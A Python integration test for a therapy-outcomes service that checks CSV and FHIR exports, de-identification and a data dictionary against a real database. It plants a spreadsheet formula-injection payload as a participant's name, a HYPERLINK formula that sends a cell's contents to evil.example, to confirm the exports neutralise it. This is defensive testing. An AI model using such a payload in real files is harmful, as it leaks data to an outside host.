#!/usr/bin/python3
"""Outcome exports read back by independent readers, against the real cftd.

Set-up as an operator would do it: cftctl migrate and seed-demo (a cohort with
questionnaires keyed from paper and answered in the app), deploy/tls.sh, cftd
over TLS. One more participant is referred and allocated through the API with
a spreadsheet formula as their name. Then, from Python's grpcio:

- the long CSV, read with Python's csv module and with pandas, holds exactly the
  database's scores (participant, cohort, instrument, version, score, time
  point, week, value, band), and its change from baseline is the score minus
  the participant's baseline;
- the wide CSV has one row per enrolment whose cells equal the long table
  pivoted by pandas;
- the formula in the name comes back neutralised from both readers, and no
  cell of any table could run in a spreadsheet;
- the FHIR Bundle, identified and de-identified, validates resource by resource
  against the R4 JSON schema and with FHIR.js (tests/python/validate_fhir.js,
  with the npm packages deploy/test.sh installs under the build tree);
- the de-identified exports carry no name, e-mail address, date or internal id
  of anyone in the database, and the pseudonyms of two exports are disjoint;
- the data dictionary describes every column and says that pseudonymised data
  is still personal data.

Environment (tests/CMakeLists.txt, deploy/test.sh): CFTD, CFTCTL,
CFT_SOURCE_DIR, FHIR_NODE_MODULES, CFT_TEST_DB_HOST/PORT/USER/PASSWORD,
CFT_TEST_TMPDIR.
"""
import csv
import io
import json
import os
import re
import secrets
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cftpy  # noqa: E402

import pandas as pd  # noqa: E402

SOURCE = cftpy.SOURCE
CFTD = os.environ["CFTD"]
CFTCTL = os.environ["CFTCTL"]
NODE_MODULES = os.environ["FHIR_NODE_MODULES"]
DB_HOST = os.environ["CFT_TEST_DB_HOST"]
DB_PORT = os.environ["CFT_TEST_DB_PORT"]
DB_USER = os.environ["CFT_TEST_DB_USER"]
DB_PASSWORD = os.environ["CFT_TEST_DB_PASSWORD"]

WORK = tempfile.mkdtemp(prefix="cft-report-", dir=os.environ.get("CFT_TEST_TMPDIR"))
cftpy.generate_stubs(WORK)
import grpc  # noqa: E402
from cft.v1 import auth_pb2, auth_pb2_grpc  # noqa: E402
from cft.v1 import cohort_pb2, cohort_pb2_grpc  # noqa: E402
from cft.v1 import report_pb2, report_pb2_grpc  # noqa: E402

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
INJECTION_EMAIL = "formula.person@evil.example"


def mariadb(args, statement, db=None):
    cmd = ["mariadb", "--no-defaults", "--default-character-set=utf8mb4", "-h", DB_HOST, "-P", DB_PORT,
           "-u", DB_USER, "-p" + DB_PASSWORD] + args
    if db:
        cmd.append(db)
    return subprocess.run(cmd + ["-e", statement], check=True, capture_output=True, text=True).stdout


def sql_rows(db, statement):
    out = mariadb(["-N", "-B", "--raw"], statement, db)
    return [line.split("\t") for line in out.splitlines() if line]


def start_cftd(flags):
    port_file = os.path.join(WORK, "cftd.port")
    log = open(os.path.join(WORK, "cftd.log"), "w")
    tls = os.path.join(WORK, "tls")
    proc = subprocess.Popen([CFTD, "--listen=127.0.0.1:0", f"--port_file={port_file}",
                             f"--tls_cert={tls}/server.pem", f"--tls_key={tls}/server.key",
                             "--password_hash_profile=minimum"] + flags, stdout=log, stderr=subprocess.STDOUT)
    def read_port():
        with open(port_file) as f:
            return f.read().strip()
    for _ in range(600):
        if os.path.exists(port_file) and read_port():
            break
        if proc.poll() is not None:
            raise RuntimeError("cftd exited: " + open(log.name).read())
        time.sleep(0.05)
    return proc, int(read_port()), log


def number(cell):
    return None if cell == "" else float(cell)


class ReportExportTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        suffix = secrets.token_hex(4)
        cls.db = "cft_report_" + suffix
        app_user, app_pw = "rep_app_" + suffix, secrets.token_urlsafe(18)
        mariadb([], f"CREATE DATABASE {cls.db}; CREATE USER '{app_user}'@'%' IDENTIFIED BY '{app_pw}';")
        owner_pw_file = os.path.join(WORK, "owner.pw")
        app_pw_file = os.path.join(WORK, "app.pw")
        for path, value in ((owner_pw_file, DB_PASSWORD), (app_pw_file, app_pw)):
            with open(path, "w") as f:
                f.write(value + "\n")
            os.chmod(path, 0o600)
        db_flags = [f"--db_host={DB_HOST}", f"--db_port={DB_PORT}", f"--db_name={cls.db}"]
        app_flags = db_flags + [f"--db_user={app_user}", f"--db_password_file={app_pw_file}"]
        subprocess.run([CFTCTL, "migrate"] + db_flags + [f"--db_user={DB_USER}", f"--db_password_file={owner_pw_file}",
                       f"--app_user={app_user}", "--app_host=%"], check=True, capture_output=True)
        demo = subprocess.run([CFTCTL, "seed-demo"] + app_flags, check=True, capture_output=True, text=True).stdout
        admin = re.search(r"^\s+admin\t(\S+)\t(\S+)$", demo, re.M)
        assert admin, demo
        subprocess.run([os.path.join(SOURCE, "deploy", "tls.sh"), os.path.join(WORK, "tls")], check=True,
                       capture_output=True)
        cls.cftd, cls.port, cls.log = start_cftd(app_flags)
        cls.channel = cftpy.tls_channel(cls.port, os.path.join(WORK, "tls", "ca.pem"))
        token = auth_pb2_grpc.AuthServiceStub(cls.channel).Login(
            auth_pb2.LoginRequest(email=admin.group(1), password=admin.group(2)), timeout=30).token
        cls.md = [("authorization", "Bearer " + token)]
        cls.reports = report_pb2_grpc.ReportServiceStub(cls.channel)

        # The demo cohort with questionnaires, and a newcomer whose name is a formula.
        cls.cohort_id = int(sql_rows(cls.db, "SELECT MIN(cohort_id) FROM measure_responses")[0][0])
        cohorts = cohort_pb2_grpc.CohortServiceStub(cls.channel)
        referral = cohorts.AddReferral(cohort_pb2.AddReferralRequest(
            name=INJECTION, contact_email=INJECTION_EMAIL, source="self",
            screening_status=cohort_pb2.SCREENING_SUITABLE, screening_note="ok"), metadata=cls.md, timeout=30)
        placed = cohorts.AllocateToCohort(cohort_pb2.AllocateToCohortRequest(
            referral_id=referral.referral.id, cohort_id=cls.cohort_id, override_closed_group=True),
            metadata=cls.md, timeout=30)
        cls.injection_enrolment = placed.participant.enrolment_id

    @classmethod
    def tearDownClass(cls):
        if cls.cftd.poll() is None:
            cls.cftd.kill()
            cls.cftd.wait()
        cls.log.close()
        mariadb([], f"DROP DATABASE IF EXISTS {cls.db}")

    def export(self, fmt, mode=report_pb2.EXPORT_MODE_IDENTIFIED, cohort=True):
        scope = report_pb2.ExportScope(cohort_id=self.cohort_id) if cohort else report_pb2.ExportScope(organisation=True)
        chunks = list(self.reports.ExportOutcomes(report_pb2.ExportOutcomesRequest(scope=scope, format=fmt, mode=mode),
                                                  metadata=self.md, timeout=60))
        self.assertTrue(chunks[0].HasField("header"))
        self.assertTrue(chunks[-1].done)
        rows = [c.rows_sent for c in chunks]
        self.assertEqual(rows, sorted(rows))  # progress only grows
        return chunks[0].header, b"".join(c.data for c in chunks)

    def csv_rows(self, data):
        return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))

    def db_scores(self):
        return sql_rows(self.db, f"""
            SELECT r.enrolment_id, rf.name, r.cohort_id, c.name, r.instrument_key, r.instrument_version, s.score_key,
                   r.time_point_key, r.time_point_kind, r.week_number, IFNULL(s.value, ''), s.band_label,
                   r.entry_mode, s.items_answered
            FROM measure_responses r JOIN measure_scores s ON s.response_id = r.id
            JOIN enrolments e ON e.id = r.enrolment_id JOIN referrals rf ON rf.id = e.referral_id
            JOIN cohorts c ON c.id = r.cohort_id
            WHERE r.cohort_id = {self.cohort_id} ORDER BY r.enrolment_id, r.id, s.position""")

    def test_1_long_csv_holds_exactly_the_databases_scores(self):
        header, data = self.export(report_pb2.EXPORT_FORMAT_LONG_CSV)
        rows = self.csv_rows(data)
        expected = self.db_scores()
        self.assertGreater(len(expected), 10)
        self.assertEqual(len(rows), len(expected))
        self.assertEqual(header.estimated_rows, len(expected))
        for got, want in zip(rows, expected):
            self.assertEqual([got["participant"], got["participant_name"], got["cohort"], got["cohort_name"],
                              got["instrument"], got["instrument_version"], got["subscale"], got["time_point"],
                              got["time_point_kind"], got["week"]], want[:10])
            self.assertEqual(number(got["score"]), number(want[10]))
            self.assertEqual([got["band"], got["entry_mode"], got["items_answered"]], want[11:14])
            self.assertRegex(got["date"], r"^\d{4}-\d{2}-\d{2}$")

        # pandas, independently: the same values, and change = score - baseline.
        df = pd.read_csv(io.BytesIO(data), encoding="utf-8")
        self.assertEqual(len(df), len(expected))
        self.assertAlmostEqual(df["score"].sum(), sum(float(r[10]) for r in expected if r[10] != ""))
        self.assertTrue(set(df["classification"].dropna()) <= {"recovered", "improved", "unchanged", "deteriorated",
                                                                "not_available"})
        base = df[df.time_point_kind == "baseline"][["participant", "instrument", "subscale", "score"]]
        later = df[df.time_point_kind != "baseline"].merge(base, on=["participant", "instrument", "subscale"],
                                                            suffixes=("", "_baseline"))
        self.assertGreater(len(later), 0)
        for _, r in later.iterrows():
            self.assertAlmostEqual(r["change_from_baseline"], r["score"] - r["score_baseline"], places=6)
            self.assertIsInstance(r["classification"], str)
        self.assertTrue(df[df.time_point_kind == "baseline"]["classification"].isna().all())

    def test_2_wide_csv_is_the_long_table_pivoted_one_row_per_enrolment(self):
        _, long_data = self.export(report_pb2.EXPORT_FORMAT_LONG_CSV)
        _, wide_data = self.export(report_pb2.EXPORT_FORMAT_WIDE_CSV)
        long_df = pd.read_csv(io.BytesIO(long_data))
        wide_df = pd.read_csv(io.BytesIO(wide_data), dtype={"participant": str})
        enrolments = sql_rows(self.db, f"SELECT id FROM enrolments WHERE cohort_id = {self.cohort_id} ORDER BY id")
        self.assertEqual(list(wide_df["participant"]), [e[0] for e in enrolments])
        long_df["column"] = long_df["instrument"] + "." + long_df["subscale"] + "." + long_df["time_point"]
        pivot = long_df.pivot(index="participant", columns="column", values="score")
        checked = 0
        for _, row in wide_df.iterrows():
            for column in pivot.columns:
                want = pivot.loc[int(row["participant"]), column] if int(row["participant"]) in pivot.index else None
                got = row[column]
                if want is None or pd.isna(want):
                    self.assertTrue(pd.isna(got), (row["participant"], column))
                else:
                    self.assertAlmostEqual(got, want)
                    checked += 1
        self.assertEqual(checked, len(long_df))

    def test_3_a_formula_in_a_name_is_neutralised_for_both_readers(self):
        for fmt in (report_pb2.EXPORT_FORMAT_WIDE_CSV, report_pb2.EXPORT_FORMAT_ATTENDANCE_CSV,
                    report_pb2.EXPORT_FORMAT_ADHERENCE_CSV):
            _, data = self.export(fmt)
            rows = self.csv_rows(data)
            mine = [r for r in rows if r["participant"] == str(self.injection_enrolment)]
            df = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
            # The homework grid lists only those who joined; the wide table every enrolment.
            if fmt == report_pb2.EXPORT_FORMAT_WIDE_CSV or mine:
                self.assertGreater(len(mine), 0)
                self.assertEqual(mine[0]["participant_name"], "'" + INJECTION)
                self.assertIn("'" + INJECTION, set(df["participant_name"]))
            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
                for cell in row:
                    self.assertFalse(cell[:1] in ("=", "+", "@", "\t", "\r"), cell)
                    if cell.startswith("-"):
                        float(cell)  # only numbers may start with a minus

    def validate(self, data):
        path = os.path.join(WORK, f"bundle-{secrets.token_hex(3)}.json")
        with open(path, "wb") as f:
            f.write(data)
        self.assertTrue(os.path.isdir(os.path.join(NODE_MODULES, "fhir")),
                        "FHIR validators missing: deploy/test.sh installs them under the build tree")
        out = subprocess.run(["node", os.path.join(SOURCE, "tests", "python", "validate_fhir.js"), path],
                             env=dict(os.environ, NODE_PATH=NODE_MODULES), capture_output=True, text=True)
        result = json.loads(out.stdout)
        self.assertEqual(result["errors"], [], out.stdout[:4000])
        self.assertEqual(out.returncode, 0, out.stderr)
        return result

    def test_4_the_fhir_bundle_validates_against_the_r4_schema_and_fhir_js(self):
        for mode in (report_pb2.EXPORT_MODE_IDENTIFIED, report_pb2.EXPORT_MODE_DEIDENTIFIED):
            header, data = self.export(report_pb2.EXPORT_FORMAT_FHIR_BUNDLE, mode)
            bundle = json.loads(data)
            self.assertEqual((bundle["resourceType"], bundle["type"]), ("Bundle", "collection"))
            result = self.validate(data)
            self.assertEqual(result["resources"], len(bundle["entry"]))
            kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
            responses = int(sql_rows(self.db, f"SELECT COUNT(*) FROM measure_responses WHERE cohort_id = {self.cohort_id}")[0][0])
            versions = int(sql_rows(self.db, "SELECT COUNT(DISTINCT instrument_key, instrument_version) FROM measure_responses "
                                             f"WHERE cohort_id = {self.cohort_id}")[0][0])
            self.assertEqual(kinds.count("QuestionnaireResponse"), responses)
            self.assertEqual(kinds.count("Observation"), len(self.db_scores()))
            self.assertEqual(kinds.count("Questionnaire"), versions)
            self.assertEqual(header.estimated_rows, len(kinds))
            # Observations point at their response; PHQ-9 totals carry LOINC 44261-6.
            ids = {e["resource"]["id"] for e in bundle["entry"] if e["resource"]["resourceType"] == "QuestionnaireResponse"}
            for e in bundle["entry"]:
                r = e["resource"]
                if r["resourceType"] == "Observation":
                    self.assertIn(r["derivedFrom"][0]["reference"].split("/", 1)[1], ids)
            self.assertIn("44261-6", data.decode())

    def test_5_deidentified_exports_hold_no_identifier_and_cannot_be_joined(self):
        people = sql_rows(self.db, "SELECT rf.name, rf.contact_email, e.id, IFNULL(u.email, '') FROM enrolments e "
                                   "JOIN referrals rf ON rf.id = e.referral_id LEFT JOIN users u ON u.id = e.user_id")
        self.assertGreater(len(people), 3)
        cohorts = sql_rows(self.db, "SELECT id, name FROM cohorts")
        ids = {p[2] for p in people} | {c[0] for c in cohorts}
        words = [p[0] for p in people] + [p[1] for p in people] + [p[3] for p in people if p[3]] + [c[1] for c in cohorts]
        words += [INJECTION, "HYPERLINK"]
        pseudonyms = []
        for run in range(2):
            seen = set()
            for fmt in (report_pb2.EXPORT_FORMAT_LONG_CSV, report_pb2.EXPORT_FORMAT_WIDE_CSV,
                        report_pb2.EXPORT_FORMAT_ATTENDANCE_CSV, report_pb2.EXPORT_FORMAT_ADHERENCE_CSV,
                        report_pb2.EXPORT_FORMAT_SUMMARY_CSV, report_pb2.EXPORT_FORMAT_FHIR_BUNDLE,
                        report_pb2.EXPORT_FORMAT_DATA_DICTIONARY_CSV):
                header, data = self.export(fmt, report_pb2.EXPORT_MODE_DEIDENTIFIED, cohort=(run == 0))
                text = data.decode("utf-8")
                for w in words:
                    self.assertNotIn(w, text, report_pb2.ExportFormat.Name(fmt))
                if fmt != report_pb2.EXPORT_FORMAT_DATA_DICTIONARY_CSV:  # its formula notice names "@"
                    self.assertNotIn("@", text)
                self.assertIsNone(re.search(r"\d{4}-\d{2}-\d{2}", text), report_pb2.ExportFormat.Name(fmt))
                self.assertIsNone(re.search(r"qr-\d+\b", text))
                if fmt == report_pb2.EXPORT_FORMAT_FHIR_BUNDLE:
                    bundle = json.loads(text)
                    for e in bundle["entry"]:
                        subject = e["resource"].get("subject")
                        if subject:
                            self.assertNotIn("display", subject)
                            self.assertNotIn(subject["identifier"]["value"], ids)
                            seen.add(subject["identifier"]["value"])
                    self.validate(data)
                    continue
                if fmt == report_pb2.EXPORT_FORMAT_DATA_DICTIONARY_CSV:
                    self.assertIn("Pseudonymised data is still personal data", text)
                    continue
                for row in self.csv_rows(data):
                    self.assertNotIn("participant_name", row)
                    self.assertNotIn("date", row)
                    self.assertNotIn(row["cohort"], ids)
                    if "participant" in row:
                        self.assertNotIn(row["participant"], ids)
                        self.assertRegex(row["participant"], r"^P-[0-9a-f]{16}$")
                        seen.add(row["participant"])
            pseudonyms.append(seen)
        self.assertGreater(len(pseudonyms[0]), 3)
        self.assertEqual(pseudonyms[0] & pseudonyms[1], set())

    def test_6_the_dictionary_describes_every_column(self):
        _, dictionary = self.export(report_pb2.EXPORT_FORMAT_DATA_DICTIONARY_CSV, report_pb2.EXPORT_MODE_DEIDENTIFIED)
        d = pd.read_csv(io.BytesIO(dictionary), dtype=str, keep_default_na=False)
        self.assertEqual(list(d.columns), ["table", "column", "type", "unit", "allowed_values", "description"])
        for fmt, table in ((report_pb2.EXPORT_FORMAT_LONG_CSV, "long"), (report_pb2.EXPORT_FORMAT_WIDE_CSV, "wide"),
                           (report_pb2.EXPORT_FORMAT_SUMMARY_CSV, "summary"),
                           (report_pb2.EXPORT_FORMAT_ATTENDANCE_CSV, "attendance"),
                           (report_pb2.EXPORT_FORMAT_ADHERENCE_CSV, "adherence")):
            _, data = self.export(fmt, report_pb2.EXPORT_MODE_DEIDENTIFIED)
            columns = next(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            described = set(d[d.table == table]["column"])
            self.assertEqual(set(columns) - described, set(), table)
        self.assertTrue((d["description"] != "").all())


if __name__ == "__main__":
    unittest.main(verbosity=2)
